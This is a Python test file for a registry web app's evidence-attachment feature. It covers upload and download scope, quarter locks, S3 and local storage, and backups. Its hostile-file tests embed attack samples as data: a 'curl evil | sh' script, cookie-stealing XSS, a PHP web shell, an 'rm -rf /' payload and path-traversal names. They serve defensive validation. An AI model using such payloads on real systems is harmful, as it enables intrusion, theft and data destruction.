"""Evidence files (附件): upload, list, download, delete on every record type, through the record's scope and write
gate; hostile files (a script renamed .jpg, a 2 GB body, path traversal in names); both storage backends (a local
folder and S3, mocked with moto); counts on lists; the quarterly report's line; backups."""

import io
import zipfile
from datetime import date, datetime, timedelta

import boto3
import pytest
import sqlalchemy as sa
from moto import mock_aws
from PIL import Image

from registry.evidence import services
from registry.evidence.files import CHUNK, clean_name, read_limited
from registry.evidence.kinds import KINDS
from registry.evidence.models import Attachment
from registry.kernel.audit.models import AuditEvent
from registry.kernel.extensions import db
from registry.kernel.quarter_locks import QuarterLock
from registry.kernel.services import ServiceError
from registry.kernel.storage import LocalStorage, S3Storage, StorageError, evidence_storage
from registry.problems.models import Category, Problem, ProgressEntry, Source
from tests.conftest import TEST_DATABASE_URL

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

#: record type -> world attribute of the record in every scope (A) and the one outside scoped users' (B)
RECORDS = {
    "projects": ("project_a", "project_b"),
    "fund_transactions": ("txn_a", "txn_b"),
    "placements": ("placement_a", "placement_b"),
    "purchases": ("purchase_a", "purchase_b"),
    "exchanges": ("exchange_a", "exchange_b"),
    "assets": ("asset_a", "asset_b"),
}


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (40, 30), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (30.0, 40.0, 50.0)}  # GPSInfo
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (0, 90, 0)).save(out, "PNG")
    return out.getvalue()


def office(part: str) -> bytes:
    """A minimal Office file. Its entries carry a fixed date: with the time of day in them, the bytes (and a test
    id made from them) differed between xdist workers collecting a second apart, which stops the run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, text in (("[Content_Types].xml", "<Types/>"), (part, "<x/>")):
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), text)
    return out.getvalue()


def url(kind, record_id, *rest):
    return "/evidence/" + "/".join(str(p) for p in (kind, record_id, *rest))


def post_file(client, kind, record_id, data: bytes, name: str):
    return client.post(
        url(kind, record_id, "upload"),
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
        follow_redirects=True,
    )


def rows(kind=None):
    stmt = sa.select(Attachment)
    if kind:
        stmt = stmt.where(Attachment.record_type == kind)
    return list(db.session.scalars(stmt.order_by(Attachment.id)))


@pytest.fixture(params=["local", "s3"])
def storage(request, app, tmp_path):
    """The same tests on a local folder and on an S3 bucket (moto)."""
    saved = app.extensions.get("evidence_storage")
    if request.param == "local":
        app.extensions["evidence_storage"] = LocalStorage(tmp_path / "evidence")
        yield app.extensions["evidence_storage"]
    else:
        with mock_aws():
            boto3.client("s3", region_name="us-east-1").create_bucket(Bucket="evidence-test")
            app.extensions["evidence_storage"] = S3Storage("evidence-test", region="us-east-1")
            yield app.extensions["evidence_storage"]
    app.extensions["evidence_storage"] = saved


def test_every_stream_record_type_is_registered():
    assert set(RECORDS) <= set(KINDS)
    assert KINDS["fund_transactions"].scoped_model.__tablename__ == "projects"


@pytest.mark.parametrize("kind", sorted(RECORDS))
def test_upload_list_download_delete_on_each_record_type(app, world, as_user, storage, kind):
    client = as_user("county")
    record_id = getattr(world, RECORDS[kind][0])
    response = post_file(client, kind, record_id, PDF, "验收报告.pdf")
    assert "已上传附件 验收报告.pdf" in response.get_data(as_text=True)
    with app.app_context():
        (attachment,) = rows(kind)
        assert attachment.record_id == record_id and attachment.content_type == "application/pdf"
        assert storage.exists(attachment.storage_key)
        key, attachment_id = attachment.storage_key, attachment.id
        event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.entity_type == "attachments"))
        assert event.action == "create" and "验收报告.pdf" in event.summary
        assert event.changes["sha256"] == attachment.sha256

    page = client.get(url(kind, record_id)).get_data(as_text=True)
    assert "验收报告.pdf" in page and "上传" in page

    response = client.get(url(kind, record_id, attachment_id))
    assert response.status_code == 200 and response.data == PDF
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E9%AA%8C%E6%94%B6%E6%8A%A5%E5%91%8A.pdf" in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"

    response = client.post(url(kind, record_id, attachment_id, "delete"), follow_redirects=True)
    assert "已删除附件 验收报告.pdf" in response.get_data(as_text=True)
    with app.app_context():
        assert rows(kind) == []
        assert not storage.exists(key)
        actions = db.session.scalars(
            sa.select(AuditEvent.action).where(AuditEvent.entity_type == "attachments").order_by(AuditEvent.id)
        ).all()
        # Downloads are audited on records with personal data (placements) only.
        assert actions == (["create", "download", "delete"] if kind == "placements" else ["create", "delete"])
    assert client.get(url(kind, record_id, attachment_id)).status_code == 404


def test_a_project_page_shows_the_panel_and_its_transactions_evidence_link(app, world, as_user):
    client = as_user("county")
    post_file(client, "fund_transactions", world.txn_a, PDF, "拨付凭证.pdf")
    post_file(client, "projects", world.project_a, png(), "现场.png")
    page = client.get(f"/projects/{world.project_a}").get_data(as_text=True)
    assert 'id="evidence"' in page and "现场.png" in page
    assert f"/evidence/fund_transactions/{world.txn_a}" in page and "附件 1" in page
    with app.app_context():
        event = db.session.scalar(
            sa.select(AuditEvent).where(AuditEvent.entity_type == "attachments").order_by(AuditEvent.id)
        )
        # A transaction's evidence is in its project's history.
        assert (event.context_type, event.context_id) == ("projects", world.project_a)


@pytest.mark.parametrize("kind", sorted(RECORDS))
@pytest.mark.parametrize("user", ["county", "liaison"])
def test_a_record_outside_the_scope_has_no_evidence_for_the_user(app, world, as_user, kind, user):
    """A county clerk of another county, an East liaison of another province: every evidence URL of the record
    answers 404 (its files exist, but not for them), and nothing is written."""
    record_b = getattr(world, RECORDS[kind][1])
    admin = as_user("admin")
    post_file(admin, kind, record_b, PDF, "b.pdf")
    with app.app_context():
        (attachment,) = rows(kind)
    client = as_user(user)
    assert client.get(url(kind, record_b)).status_code == 404
    assert client.get(url(kind, record_b, attachment.id)).status_code == 404
    assert client.post(url(kind, record_b, "upload"), data={"file": (io.BytesIO(PDF), "x.pdf")}).status_code == 404
    assert client.post(url(kind, record_b, attachment.id, "delete")).status_code == 404
    # Nor through a record the user does see: the attachment belongs to B.
    record_a = getattr(world, RECORDS[kind][0])
    assert client.get(url(kind, record_a, attachment.id)).status_code == 404
    assert client.post(url(kind, record_a, attachment.id, "delete")).status_code == 404
    with app.app_context():
        assert len(rows(kind)) == 1


def test_unknown_record_types_and_records_are_404(world, as_user):
    client = as_user("admin")
    assert client.get(url("users", world.admin)).status_code == 404
    assert client.get(url("..", 1)).status_code == 404
    assert client.get(url("projects", 999999)).status_code == 404


def test_readers_see_evidence_but_may_not_upload_or_delete(app, world, as_user):
    post_file(as_user("county"), "purchases", world.purchase_a, PDF, "发票.pdf")
    with app.app_context():
        (attachment,) = rows()
    reader = as_user("reader")
    page = reader.get(f"/purchases/{world.purchase_a}").get_data(as_text=True)
    assert "发票.pdf" in page and 'enctype="multipart/form-data"' not in page
    assert reader.get(url("purchases", world.purchase_a, attachment.id)).status_code == 200
    assert (
        reader.post(url("purchases", world.purchase_a, "upload"), data={"file": (io.BytesIO(PDF), "x.pdf")}).status_code
        == 403
    )
    assert reader.post(url("purchases", world.purchase_a, attachment.id, "delete")).status_code == 403
    with app.app_context():
        assert len(rows()) == 1


def lock(county_id, year, quarter):
    db.session.add(QuarterLock(unit_id=county_id, year=year, quarter=quarter))
    db.session.commit()


def test_a_locked_quarter_refuses_new_evidence_and_deletions(app, world, as_user):
    client = as_user("county")
    post_file(client, "placements", world.placement_a, PDF, "合同.pdf")
    with app.app_context():
        (attachment,) = rows()
        attachment_id, key = attachment.id, attachment.storage_key
        lock(world.zhaojue, 2024, 1)  # placement_a starts 2024-03-01
        lock(world.zhaojue, 2024, 2)  # txn_a is dated 2024-04-01
    for kind, record in (("placements", world.placement_a), ("fund_transactions", world.txn_a)):
        text = post_file(client, kind, record, PDF, "晚到.pdf").get_data(as_text=True)
        assert "已由省协作办审定并锁定" in text and "已锁定季度的记录不能再添加或删除附件" in text
    text = client.post(url("placements", world.placement_a, attachment_id, "delete"), follow_redirects=True)
    assert "已锁定季度的记录不能再添加或删除附件" in text.get_data(as_text=True)
    with app.app_context():
        assert [a.id for a in rows()] == [attachment_id]
        assert evidence_storage().exists(key)


def test_progress_entries_of_a_problem_found_in_a_locked_quarter_take_evidence_by_their_own_date(app, world, as_user):
    """A problem found in 2024Q1 is worked on after the province locked 2024Q1: its progress entry dated in 2024Q3
    takes files (the entry's own date answers for the lock, not the problem's found_on), the one dated in 2024Q1
    does not."""
    with app.app_context():
        problem = Problem(
            source=Source.NATIONAL,
            year=2024,
            found_on=date(2024, 2, 10),
            description="项目资金拨付滞后",
            category=Category.FUNDS,
            unit_id=world.zhaojue,
        )
        early = ProgressEntry(problem=problem, entry_on=date(2024, 3, 1), text="制定整改方案")
        late = ProgressEntry(problem=problem, entry_on=date(2024, 8, 15), text="资金已拨付到位")
        db.session.add_all([problem, early, late])
        db.session.commit()
        early_id, late_id = early.id, late.id
        lock(world.zhaojue, 2024, 1)
    client = as_user("county")
    text = post_file(client, "problem_progress", late_id, PDF, "拨付凭证.pdf").get_data(as_text=True)
    assert "已锁定季度的记录不能再添加或删除附件" not in text
    text = post_file(client, "problem_progress", early_id, PDF, "整改方案.pdf").get_data(as_text=True)
    assert "已锁定季度的记录不能再添加或删除附件" in text
    with app.app_context():
        assert [(a.record_type, a.record_id, a.filename) for a in rows()] == [
            ("problem_progress", late_id, "拨付凭证.pdf")
        ]


def test_a_liaison_writes_evidence_only_on_records_of_their_pairings(app, world, as_user):
    client = as_user("liaison")
    assert "已上传附件" in post_file(client, "projects", world.project_a, PDF, "a.pdf").get_data(as_text=True)
    with app.app_context():
        assert len(rows()) == 1


# ---- hostile files ---------------------------------------------------------------------------------------------


HOSTILE = {
    "a shell script renamed .jpg": (b"#!/bin/sh\ncurl evil | sh\n", "photo.jpg"),
    "an HTML page renamed .png": (b"<html><script>alert(document.cookie)</script></html>", "scan.png"),
    "a JPEG header then a script": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<script>alert(1)</script>", "x.jpg"),
    "a PNG signature then junk": (b"\x89PNG\r\n\x1a\n" + b"<?php system($_GET[1]); ?>", "x.png"),
    "a zip that is no office file": (None, "report.docx"),
    "an SVG image": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "chart.svg"),
    "a Windows program renamed .pdf": (b"MZ\x90\x00" + b"\x00" * 60, "invoice.pdf"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_files_are_refused_and_nothing_is_stored(app, world, as_user, storage, case):
    data, name = HOSTILE[case]
    if data is None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("payload.sh", "rm -rf /")
        data = out.getvalue()
    text = post_file(as_user("county"), "projects", world.project_a, data, name).get_data(as_text=True)
    assert "不接受该文件类型" in text or "不是真正的图片" in text
    with app.app_context():
        assert rows() == []
        assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(
            AuditEvent.entity_type == "attachments")) == 0  # fmt: skip
    if isinstance(storage, LocalStorage):
        assert not any(p.is_file() for p in storage.root.rglob("*"))
    else:
        assert storage.client.list_objects_v2(Bucket=storage.bucket).get("KeyCount", 0) == 0


def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(app, world, as_user):
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")  # a few kB on disk, 81 million pixels decoded
    assert len(out.getvalue()) < 100_000
    text = post_file(as_user("county"), "projects", world.project_a, out.getvalue(), "bomb.png").get_data(as_text=True)
    assert "图片像素过多" in text
    with app.app_context():
        assert rows() == []


def test_the_configured_bucket_is_used(app, tmp_path):
    from registry import create_app  # deferred: an app of its own configuration
    from tests.conftest import make_test_config

    configured = create_app(
        make_test_config(f"sqlite:///{tmp_path / 'x.sqlite3'}")
        | {"EVIDENCE_S3_BUCKET": "office-evidence", "EVIDENCE_S3_REGION": "us-east-1"}
    )
    with mock_aws():
        boto3.client("s3", region_name="us-east-1").create_bucket(Bucket="office-evidence")
        storage = evidence_storage(configured)
        assert isinstance(storage, S3Storage) and storage.bucket == "office-evidence"
        storage.put("ab" * 16, PDF, "application/pdf")
        listed = storage.client.list_objects_v2(Bucket="office-evidence")["Contents"]
        assert [o["Key"] for o in listed] == ["evidence/" + "ab" * 16]
        assert storage.get("ab" * 16) == PDF
    assert isinstance(evidence_storage(app), LocalStorage)


def test_images_are_re_encoded_without_exif_or_gps(app, world, as_user, storage):
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif()
    client = as_user("county")
    post_file(client, "exchanges", world.exchange_a, original + b"<script>alert(1)</script>", "IMG_0001.JPG")
    with app.app_context():
        (attachment,) = rows()
        stored = storage.get(attachment.storage_key)
    assert attachment.filename == "IMG_0001.jpg" and attachment.content_type == "image/jpeg"
    image = Image.open(io.BytesIO(stored))
    assert image.format == "JPEG" and image.size == (40, 30)
    assert not image.getexif() and b"<script>" not in stored and b"PhoneMaker" not in stored
    response = client.get(url("exchanges", world.exchange_a, attachment.id))
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Content-Type"] == "image/jpeg"


@pytest.mark.parametrize(
    ("data", "name", "content_type", "shown"),
    [
        (office("word/document.xml"), "方案.docx", "wordprocessingml", "方案.docx"),
        (office("xl/workbook.xml"), "台账.XLSX", "spreadsheetml", "台账.xlsx"),
        (png(), "图.png", "image/png", "图.png"),
        # The type is read from the content; the name only keeps its stem.
        (PDF, "scan.jpg", "application/pdf", "scan.pdf"),
    ],
    ids=["docx", "xlsx", "png", "pdf-named-jpg"],
)
def test_allowed_types_are_told_from_their_content(app, world, as_user, data, name, content_type, shown):
    post_file(as_user("county"), "purchases", world.purchase_a, data, name)
    with app.app_context():
        (attachment,) = rows()
    assert content_type in attachment.content_type and attachment.filename == shown


def test_path_traversal_names_are_harmless(app, world, as_user, storage):
    client = as_user("county")
    for name in ("../../../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/tmp/x;rm -rf.pdf", '\x00"<b>.pdf'):
        post_file(client, "projects", world.project_a, PDF, name)
    with app.app_context():
        names = [a.filename for a in rows()]
        keys = [a.storage_key for a in rows()]
    assert names[0] == "passwd.pdf" and names[2] == "xrm -rf.pdf"
    assert all("/" not in n and "\\" not in n and not n.startswith(".") and n.endswith(".pdf") for n in names)
    assert all(len(k) == 32 and all(c in "0123456789abcdef" for c in k) for k in keys)
    if isinstance(storage, LocalStorage):
        stored = sorted(p.name for p in storage.root.rglob("*") if p.is_file())
        assert stored == sorted(keys)
    with pytest.raises(StorageError):
        storage.get("../../etc/passwd")
    with pytest.raises(StorageError):
        storage.put("a/../../b", b"x", "text/plain")


@pytest.mark.parametrize(
    ("original", "cleaned"),
    [
        ("", "附件.pdf"),
        ("...", "附件.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\win.ini.exe", "win.ini.pdf"),
        ('\x00"<b>\r\n.pdf', "b.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("报告" * 100 + ".pdf", "报告" * 40 + ".pdf"),
    ],
)
def test_clean_name(original, cleaned):
    assert clean_name(original, "pdf") == cleaned


class Endless:
    """A body that never ends (2 GB and more), counting what was read of it."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, size=-1):
        size = CHUNK if size is None or size < 0 else min(size, CHUNK)
        self.read_bytes += size
        return b"\0" * size

    def tell(self):
        return 0

    def seek(self, *args):
        return 0

    def readline(self, size=-1):
        return self.read(size if size and size > 0 else 1024)


def test_a_2_gb_upload_is_refused_from_its_length_without_being_read(app, world, as_user):
    client = as_user("county")
    body = Endless()
    response = client.post(
        url("projects", world.project_a, "upload"),
        input_stream=body,
        content_type="multipart/form-data; boundary=xyz",
        environ_overrides={"CONTENT_LENGTH": str(2 * 1024**3)},
    )
    assert response.status_code == 413 and "文件过大" in response.get_data(as_text=True)
    assert body.read_bytes == 0
    with app.app_context():
        assert rows() == []


def test_an_upload_without_a_length_is_cut_at_the_limit(app):
    """Whatever reaches the service is read in chunks and refused once past the limit, never read whole."""
    body = Endless()
    with pytest.raises(ServiceError, match="大小限制"):
        read_limited(body, 3 * CHUNK)
    assert body.read_bytes <= 4 * CHUNK


def test_a_file_over_the_evidence_limit_is_refused(app, world, as_user):
    app.config["EVIDENCE_MAX_BYTES"] = 1024
    try:
        text = post_file(as_user("county"), "projects", world.project_a, PDF + b"0" * 2048, "big.pdf")
    finally:
        app.config["EVIDENCE_MAX_BYTES"] = 16 * 1024 * 1024
    assert "文件超过 0 MB 的大小限制" in text.get_data(as_text=True) or "大小限制" in text.get_data(as_text=True)
    with app.app_context():
        assert rows() == []


# ---- storage follows the transaction ---------------------------------------------------------------------------


def test_a_rolled_back_upload_leaves_no_object_and_a_delete_waits_for_the_commit(app, world, storage):
    from registry.projects.models import Project  # deferred: the test's own record type

    kind = KINDS["projects"]
    with app.app_context():
        project = db.session.get(Project, world.project_a)
        attachment = services.upload(kind, project, io.BytesIO(PDF), "x.pdf", actor=None)
        key = attachment.storage_key
        assert storage.exists(key)
        db.session.rollback()
        assert not storage.exists(key)

        project = db.session.get(Project, world.project_a)
        attachment = services.upload(kind, project, io.BytesIO(PDF), "y.pdf", actor=None)
        db.session.commit()
        services.delete(kind, project, attachment, actor=None)
        db.session.flush()
        assert storage.exists(attachment.storage_key)  # not yet committed
        db.session.rollback()
        assert storage.exists(attachment.storage_key)  # the deletion was rolled back: the file stays
        attachment = db.session.get(Attachment, attachment.id)
        services.delete(kind, db.session.get(Project, world.project_a), attachment, actor=None)
        db.session.commit()
        assert not storage.exists(attachment.storage_key)


def test_a_deleted_fund_transaction_takes_its_files_with_it(app, world, as_user, storage):
    client = as_user("county")
    post_file(client, "fund_transactions", world.txn_a, PDF, "凭证.pdf")
    with app.app_context():
        (attachment,) = rows()
        key = attachment.storage_key
    response = client.post(f"/projects/{world.project_a}/funds/{world.txn_a}/delete", data={"version": 1})
    assert response.status_code in (302, 303)
    with app.app_context():
        assert rows() == [] and not storage.exists(key)
        summaries = db.session.scalars(sa.select(AuditEvent.summary).where(AuditEvent.entity_type == "attachments"))
        assert any("随资金记录" in s for s in summaries)


# ---- counts ----------------------------------------------------------------------------------------------------


def test_lists_show_evidence_counts_in_one_query(app, world, as_user):
    client = as_user("admin")
    for _ in range(2):
        post_file(client, "placements", world.placement_a, PDF, "p.pdf")
    post_file(client, "purchases", world.purchase_b, PDF, "q.pdf")
    post_file(client, "exchanges", world.exchange_a, PDF, "e.pdf")
    post_file(client, "projects", world.project_b, PDF, "pr.pdf")
    assert "附件 2" in client.get("/placements/").get_data(as_text=True)
    assert "附件 1" in client.get("/purchases/").get_data(as_text=True)
    assert "附件 1" in client.get("/exchanges/").get_data(as_text=True)
    assert "附件 1" in client.get("/projects/").get_data(as_text=True)

    statements = []

    def count(conn, cursor, statement, *args):
        if "attachments" in statement:
            statements.append(statement)

    with app.app_context():
        sa.event.listen(db.engine, "before_cursor_execute", count)
        try:
            client.get("/placements/")
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", count)
    assert len(statements) == 1
    with app.app_context():
        assert services.counts("placements", [world.placement_a, world.placement_b]) == {world.placement_a: 2}


def test_a_download_of_a_record_with_personal_data_is_audited(app, world, as_user):
    client = as_user("county")
    post_file(client, "placements", world.placement_a, PDF, "身份证明.pdf")
    with app.app_context():
        (attachment,) = rows()
    assert client.get(url("placements", world.placement_a, attachment.id)).status_code == 200
    with app.app_context():
        actions = db.session.scalars(sa.select(AuditEvent.action).where(AuditEvent.entity_type == "attachments"))
        assert sorted(actions) == ["create", "download"]


# ---- the quarterly report and backups ----------------------------------------------------------------------------


def test_the_quarter_counts_records_with_evidence_per_type(app, world, as_user):
    client = as_user("county")
    post_file(client, "placements", world.placement_a, PDF, "p.pdf")
    post_file(client, "placements", world.placement_a, PDF, "p2.pdf")
    today = date.today() + timedelta(days=1)  # a day on: China's date may be ahead of the machine's
    with app.app_context():
        from registry.counties.models import Unit  # deferred: test-only lookups

        units = sa.select(Unit.id).where(Unit.id == world.zhaojue)

        def counts(start, end, cutoff=today):
            return {r.name: (r.records, r.with_files) for r in services.quarter_counts(start, end, units, None, cutoff)}

        found = counts(date(2024, 1, 1), date(2024, 3, 31))
        # Files count by upload date: as of the quarter's own end, today's uploads are not there yet.
        assert counts(date(2024, 1, 1), date(2024, 3, 31), None)["劳务协作记录"] == (1, 0)
    assert found["劳务协作记录"] == (1, 1)
    assert "项目" not in found and found["资金记录"] == (0, 0)
    post_file(client, "fund_transactions", world.txn_a, PDF, "t.pdf")  # dated 2024-04-01
    page = client.get(f"/reports/{world.zhaojue}/2024Q2").get_data(as_text=True)
    assert "佐证材料待补情况" in page
    with app.app_context():
        q2 = counts(date(2024, 4, 1), date(2024, 6, 30))
    assert q2["资金记录"] == (1, 1) and q2["劳务协作记录"] == (0, 0)


@pytest.mark.skipif(bool(TEST_DATABASE_URL), reason="PostgreSQL is backed up with pg_dump (README)")
def test_evidence_files_are_in_the_backup_and_come_back_with_a_restore(app, world, as_user, tmp_path):
    from registry import create_app  # deferred: a second app for the restore
    from registry.projects.models import Project  # deferred: the test's own record type
    from registry.tasks import backup  # deferred: the backup's own module
    from tests.conftest import make_test_config

    instance = tmp_path / "instance"
    saved = app.extensions.get("evidence_storage"), app.config["EVIDENCE_FOLDER"], app.instance_path
    app.extensions.pop("evidence_storage", None)
    app.config["EVIDENCE_FOLDER"], app.instance_path = None, str(instance)
    try:
        with app.app_context():
            attachment = services.upload(KINDS["projects"], db.session.get(Project, world.project_a),
                                         io.BytesIO(PDF), "证明.pdf", actor=None)  # fmt: skip
            db.session.commit()
            key = attachment.storage_key
            assert (instance / "files" / "evidence" / key[:2] / key).is_file()
            path = backup.take(datetime(2026, 1, 1, 10))
    finally:
        app.extensions["evidence_storage"], app.config["EVIDENCE_FOLDER"], app.instance_path = saved
    with zipfile.ZipFile(path) as archive:
        assert archive.read(f"instance/files/evidence/{key[:2]}/{key}") == PDF
    fresh = create_app(make_test_config(f"sqlite:///{tmp_path / 'fresh.sqlite3'}"))
    fresh.instance_path = str(tmp_path / "restored")
    result = fresh.test_cli_runner().invoke(args=["backup", "restore", str(path)])
    assert result.exit_code == 0, result.output
    with fresh.app_context():
        (restored,) = db.session.scalars(sa.select(Attachment)).all()
        assert evidence_storage().get(restored.storage_key) == PDF
